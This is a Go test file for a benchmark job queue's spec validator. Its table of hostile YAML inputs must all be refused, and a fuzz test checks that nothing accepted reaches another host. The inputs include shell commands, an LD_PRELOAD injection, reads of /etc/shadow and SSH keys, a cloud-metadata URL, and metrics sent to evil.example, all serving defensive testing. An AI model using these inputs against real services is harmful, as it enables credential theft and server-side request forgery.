package jobs

import (
	"flag"
	"log/slog"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"assay/spec"
)

var update = flag.Bool("update", false, "write testdata/free.txt anew")

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

const head = "apiVersion: assay.dev/v1alpha1\nkind: BenchmarkRun\nmetadata: {name: asked}\n"

// good is a document that may be carried out.
const good = head + `spec:
  workload: {model: m}
  target: {url: "http://127.0.0.1:8000"}
  load: {concurrency: [2], duration: 1s}
`

func opened(t testing.TB, change func(*Options)) *Queue {
	t.Helper()
	files := t.TempDir()
	must(t, os.WriteFile(filepath.Join(files, "prompts.jsonl"), []byte(`{"prompt": "x"}`), 0o600))
	must(t, os.Symlink("/etc/passwd", filepath.Join(files, "link.jsonl")))
	o := Options{
		Dir: filepath.Join(t.TempDir(), "jobs"), Log: slog.New(slog.DiscardHandler), Now: time.Now, Time: time.Minute, Bytes: 1 << 30,
		Bounds: Bounds{Targets: []string{"127.0.0.1:8000"}, Files: files, Env: []string{"TARGET_KEY"}, Launchers: []string{"local"}},
	}
	if change != nil {
		change(&o)
	}
	q, err := Open(o)
	must(t, err)
	return q
}

// What somebody with a token to run would try: each is refused with the name of the field.
func TestHostileDocuments(t *testing.T) {
	q := opened(t, nil)
	tests := []struct{ name, spec, want string }{
		{"a server's command line", `target: {url: "http://127.0.0.1:8000", server: {command: [sh, -c, id]}}`, "spec.target.server.command"},
		{"a program that answers", `target: {api: command, server: {command: [cat, /etc/passwd]}}`, "spec.target.server.command"},
		{"a command of a candidate", `{target: {url: "http://127.0.0.1:8000"}, candidates: [{name: b, target: {url: "http://127.0.0.1:8001", server: {command: [id]}}}]}`, "spec.candidates.target.server.command"},
		{"a tool between turns", `{target: {url: "http://127.0.0.1:8000"}, workload: {model: m, session: {tool: {command: [id]}}}}`, "spec.workload.session.tool.command"},
		{"one of several tools", `{target: {url: "http://127.0.0.1:8000"}, workload: {model: m, session: {tools: [{name: a}, {name: b, command: [id]}]}}}`, "spec.workload.session.tools.command"},
		{"the server's data in the bundle", `{target: {url: "http://127.0.0.1:8000"}, provenance: {inputs: {data: true}}}`, "spec.provenance.inputs"},
		{"checkpoints anywhere", `{intent: {workloadType: training}, train: {saveEvery: 1, saveDir: /etc/cron.d}}`, "spec.train.saveDir"},
		{"a suite's command", `{target: {url: "http://127.0.0.1:8000"}, layers: [{name: micro, enabled: true, suites: [{name: x, repoCommand: id}]}, {name: component, enabled: true, suites: [{name: y}]}, {name: end_to_end, enabled: true, suites: [{name: z}]}]}`, "spec.layers.suites.repoCommand"},
		{"a training command", `{intent: {workloadType: training}, train: {command: [id]}}`, "spec.train.command"},
		{"another python", `{intent: {workloadType: training}, train: {python: /tmp/evil}}`, "spec.train.python"},
		{"variables of collectives", `{intent: {workloadType: training}, collectives: {settings: [{name: x, env: [LD_PRELOAD=/tmp/x.so]}]}}`, "spec.collectives.settings"},
		{"ranks on other hosts", `{intent: {workloadType: training}, train: {launch: {kind: ssh, hosts: [victim]}}}`, "spec.train.launch"},
		{"options of sbatch", `{intent: {workloadType: training}, train: {launch: {kind: slurm, slurm: {options: ["--wrap=id"]}}}}`, "spec.train.launch"},
		{"a scorer's command", `{target: {url: "http://127.0.0.1:8000"}, evaluation: {tasks: [{name: q, family: own, datasetRef: "sha256:` + zeros + `", path: prompts.jsonl}], scorers: [{name: s, command: [id], scores: [x]}]}}`, "spec.evaluation.scorers"},
		{"another host", `target: {url: "http://10.0.0.7:8000"}`, "spec.target.url"},
		{"another port of this host", `target: {url: "http://127.0.0.1:22"}`, "spec.target.url"},
		{"the metadata of a cloud", `target: {url: "http://169.254.169.254/latest/meta-data"}`, "spec.target.url"},
		{"this host by another name", `target: {url: "http://localhost:8000"}`, "spec.target.url"},
		{"a host in front of the host", `target: {url: "http://127.0.0.1:8000@evil.example/"}`, "spec.target.url"},
		{"one host of several", `target: {urls: ["http://127.0.0.1:8000", "http://evil.example"]}`, "spec.target.urls"},
		{"counters of another host", `target: {url: "http://127.0.0.1:8000", metrics: {urls: ["http://10.0.0.7/metrics"]}}`, "spec.target.metrics.urls"},
		{"a proxy", `target: {url: "http://127.0.0.1:8000", proxy: "http://evil.example:3128"}`, "spec.target.proxy"},
		{"a candidate elsewhere", `{target: {url: "http://127.0.0.1:8000"}, candidates: [{name: b, target: {url: "http://evil.example"}}]}`, "spec.candidates.target.url"},
		{"a credential from a file", `target: {url: "http://127.0.0.1:8000", auth: {kind: bearer, file: /root/.ssh/id_ed25519}}`, "spec.target.auth.file"},
		{"a credential from another variable", `target: {url: "http://127.0.0.1:8000", auth: {kind: bearer, env: AWS_SECRET_ACCESS_KEY}}`, "spec.target.auth.env"},
		{"the cloud's credentials", `target: {url: "http://127.0.0.1:8000", auth: {kind: google}}`, "spec.target.auth.kind"},
		{"a header from a file", `target: {url: "http://127.0.0.1:8000", headers: {X: {file: /etc/shadow}}}`, "spec.target.headers"},
		{"a header from a variable", `target: {url: "http://127.0.0.1:8000", headers: {X: {env: HOME}}}`, "spec.target.headers"},
		{"a parameter from a file", `target: {url: "http://127.0.0.1:8000", query: {x: {file: /etc/shadow}}}`, "spec.target.query"},
		{"a certificate", `target: {url: "http://127.0.0.1:8000", tls: {caFile: /etc/shadow}}`, "spec.target.tls.caFile"},
		{"a data set anywhere", `{target: {url: "http://127.0.0.1:8000"}, workload: {model: m, datasetRef: "sha256:` + zeros + `", prompt: {dataset: {path: /etc/passwd}}}}`, "spec.workload.prompt.dataset.path"},
		{"a data set that climbs", `{target: {url: "http://127.0.0.1:8000"}, workload: {model: m, datasetRef: "sha256:` + zeros + `", prompt: {dataset: {path: ../../x.jsonl}}}}`, "spec.workload.prompt.dataset.path"},
		{"a data set behind a link", `{target: {url: "http://127.0.0.1:8000"}, workload: {model: m, datasetRef: "sha256:` + zeros + `", prompt: {dataset: {path: link.jsonl}}}}`, "spec.workload.prompt.dataset.path"},
		{"a tokenizer anywhere", `{target: {url: "http://127.0.0.1:8000"}, workload: {model: m, tokenizer: {path: /etc/passwd, digest: "sha256:` + zeros + `"}}}`, "spec.workload.tokenizer.path"},
		{"a trace anywhere", `{target: {url: "http://127.0.0.1:8000"}, workload: {model: m, concurrencyModel: open_loop}, load: {traceRef: /etc/passwd, trace: {format: mooncake}}}`, "spec.load.traceRef"},
		{"questions anywhere", `{target: {url: "http://127.0.0.1:8000"}, evaluation: {tasks: [{name: q, family: own, datasetRef: "sha256:` + zeros + `", path: /etc/passwd}]}}`, "spec.evaluation.tasks.path"},
		{"a copy of the bundle anywhere", `{target: {url: "http://127.0.0.1:8000"}, sinks: {rawArtifacts: {pathTemplate: "/etc/cron.d/${RUN_ID}"}}}`, "spec.sinks.rawArtifacts.pathTemplate"},
		{"metrics to another host", `{target: {url: "http://127.0.0.1:8000"}, sinks: {hotMetrics: {remoteWrite: {url: "http://evil.example/write", headers: {X: {file: /etc/shadow}}}}}}`, "spec.sinks.hotMetrics.remoteWrite"},
		{"spans to another host", `{target: {url: "http://127.0.0.1:8000"}, sinks: {hotMetrics: {otlp: {url: "http://evil.example"}}}}`, "spec.sinks.hotMetrics.otlp"},
		{"a page of metrics for everybody", `{target: {url: "http://127.0.0.1:8000"}, sinks: {hotMetrics: {listen: "0.0.0.0:9090"}}}`, "spec.sinks.hotMetrics.listen"},
		{"another bundle of the disk", `{target: {url: "http://127.0.0.1:8000"}, comparison: {baseline: {artifactRef: /root/runs/x}}}`, "spec.comparison.baseline.artifactRef"},
		{"probes that write", `{target: {url: "http://127.0.0.1:8000"}, probe: {dir: /, fileSize: 1TiB}}`, "spec.probe"},
		{"an image of Kubernetes", `{target: {url: "http://127.0.0.1:8000"}, kubernetes: {image: evil}}`, "spec.kubernetes"},
		{"a million users", `{target: {url: "http://127.0.0.1:8000"}, load: {concurrency: [1000000]}}`, "spec.load.concurrency"},
		{"a thousand processes", `{target: {url: "http://127.0.0.1:8000"}, load: {concurrency: [5000], generators: 1000}}`, "spec.load.generators"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			text := tt.spec
			if !strings.HasPrefix(text, "{") {
				text = "{" + text + "}"
			}
			if !strings.Contains(text, "workload: {") {
				text = "{workload: {model: m}, " + text[1:]
			}
			_, err := q.Check([]byte(head+"spec: "+text+"\n"), "local")
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("got %v, want a refusal that names %s", err, tt.want)
			}
		})
	}
	if _, err := q.Check([]byte(good), "kubernetes"); err == nil || !strings.Contains(err.Error(), "kubectl") {
		t.Errorf("kubernetes: %v", err)
	}
	if _, err := opened(t, func(o *Options) { o.Bounds = Bounds{} }).Check([]byte(good), "local"); err == nil || !strings.Contains(err.Error(), "--runs") {
		t.Errorf("a server without --runs: %v", err)
	}
}

const zeros = "0000000000000000000000000000000000000000000000000000000000000000"

// Documents that ask for nothing more than they may are not in the way of anybody.
func TestHonestDocuments(t *testing.T) {
	q := opened(t, nil)
	for _, text := range []string{
		good,
		head + `spec: {workload: {model: m}, target: {url: "http://127.0.0.1:8000", auth: {kind: bearer, env: TARGET_KEY}, headers: {X-Team: a}}, load: {concurrency: [2]}, slo: [{metric: ttft, percentile: 99, max: 1s}], trials: {minReplicates: 3}}`,
		head + `spec: {workload: {model: m, datasetRef: "sha256:` + zeros + `", prompt: {dataset: {path: prompts.jsonl}}}, target: {url: "http://127.0.0.1:8000"}, load: {concurrency: [2]}}`,
	} {
		if _, err := q.Check([]byte(text), "local"); err != nil {
			t.Errorf("%s\n%v", text, err)
		}
	}
}

// Every field with words in it that nobody looks at is listed: whoever adds one to the
// format decides here whether a stranger may set it.
func TestFreeFields(t *testing.T) {
	var list []string
	texts(reflect.TypeFor[spec.Run](), "", func(path string) {
		if kindOf(path) == free {
			list = append(list, path)
		}
	})
	slices.Sort(list)
	text := strings.Join(slices.Compact(list), "\n") + "\n"
	const name = "testdata/free.txt"
	if *update {
		must(t, os.MkdirAll("testdata", 0o755))
		must(t, os.WriteFile(name, []byte(text), 0o644))
	}
	want, err := os.ReadFile(name)
	must(t, err)
	if text != string(want) {
		t.Errorf("the fields that are taken as they are have changed: look at bounds.go, then go test ./server/jobs -run FreeFields -update\n%s", text)
	}
}

// texts visits every field of a type that holds words.
func texts(t reflect.Type, path string, visit func(string)) {
	switch t.Kind() {
	case reflect.Pointer, reflect.Slice, reflect.Map:
		texts(t.Elem(), path, visit)
	case reflect.String, reflect.Interface:
		visit(path)
	case reflect.Struct:
		if t == reflect.TypeFor[spec.Secret]() {
			visit(path)
			return
		}
		for i := range t.NumField() {
			if name, _, _ := strings.Cut(t.Field(i).Tag.Get("json"), ","); name != "" && name != "-" {
				texts(t.Field(i).Type, strings.TrimPrefix(path+"."+name, "."), visit)
			}
		}
	}
}

// FuzzDocument: whatever is let through starts nothing and goes nowhere else.
func FuzzDocument(f *testing.F) {
	q := opened(f, nil)
	f.Add([]byte(good))
	f.Add([]byte(head + `spec: {workload: &w {model: m}, target: {url: "http://127.0.0.1:8000", server: {command: [id]}}}`))
	f.Add([]byte(`{"apiVersion": "assay.dev/v1alpha1", "kind": "BenchmarkRun", "metadata": {"name": "x"}, "spec": {"workload": {"model": "m"}, "target": {"urls": ["http://127.0.0.1:8000"]}, "load": {"rate": [1]}}}`))
	f.Fuzz(func(t *testing.T, source []byte) {
		run, err := q.Check(source, "local")
		if err != nil {
			return
		}
		targets := []*spec.Target{run.Spec.Target}
		for i := range run.Spec.Candidates {
			targets = append(targets, &run.Spec.Candidates[i].Target)
		}
		for _, target := range targets {
			if target == nil {
				continue
			}
			urls := append([]string{target.URL}, target.URLs...)
			for _, u := range urls {
				if u != "" && !strings.HasPrefix(strings.ToLower(u), "http://127.0.0.1:8000") {
					t.Errorf("goes to %q", u)
				}
			}
			if target.Server != nil || target.Proxy != "" || target.Auth.File != "" || target.TLS.KeyFile != "" {
				t.Errorf("let through: %s", source)
			}
		}
	})
}
